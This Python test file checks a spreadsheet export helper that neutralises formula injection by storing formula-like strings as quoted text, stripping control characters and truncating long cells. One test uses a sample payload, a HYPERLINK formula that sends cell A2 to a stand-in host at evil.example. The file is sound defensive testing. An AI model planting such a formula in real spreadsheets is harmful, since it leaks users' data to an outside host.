import datetime
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from apps.core.sheets import FORMULA_START, MAX_CELL_TEXT, append_row


def round_trip(values: list) -> list:
    book = Workbook()
    append_row(book.active, values)
    buffer = io.BytesIO()
    book.save(buffer)
    return list(load_workbook(io.BytesIO(buffer.getvalue())).active[1])


def test_it_stores_a_formula_as_quoted_text():
    payload = '=HYPERLINK("http://evil.example/?leak="&A2,"Подробнее")'
    (cell,) = round_trip([payload])
    assert cell.data_type == "s"
    assert cell.value == payload
    assert cell.quotePrefix is True


def test_it_quotes_every_formula_start():
    cells = round_trip(["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "обычный"])
    assert [c.data_type for c in cells] == ["s"] * 7
    assert [c.quotePrefix for c in cells] == [True] * 6 + [False]


def test_it_keeps_error_codes_as_text():
    (cell,) = round_trip(["#N/A"])
    assert (cell.data_type, cell.value) == ("s", "#N/A")


def test_it_drops_control_characters():
    (cell,) = round_trip(["Тема\x0b встречи\x1b\x18"])
    assert cell.value == "Тема встречи"


def test_it_keeps_numbers_dates_and_empty_cells():
    cells = round_trip([5, -3, 2.5, datetime.date(2025, 9, 1), None, True])
    excel_date = datetime.datetime(2025, 9, 1)  # noqa: DTZ001 — workbooks hold naive dates
    assert [c.value for c in cells] == [5, -3, 2.5, excel_date, None, True]
    assert [c.data_type for c in cells] == ["n", "n", "n", "d", "n", "b"]


def test_it_cuts_text_at_excels_cell_limit():
    (cell,) = round_trip(["x" * (MAX_CELL_TEXT + 10)])
    assert len(cell.value) == MAX_CELL_TEXT


@given(st.text())
def test_it_saves_any_string_as_a_plain_string_cell(text):
    (cell,) = round_trip([text])
    if cell.value is None:  # nothing left to write
        return
    assert cell.data_type == "s"
    assert isinstance(cell.value, str)
    assert cell.quotePrefix is cell.value.startswith(FORMULA_START)
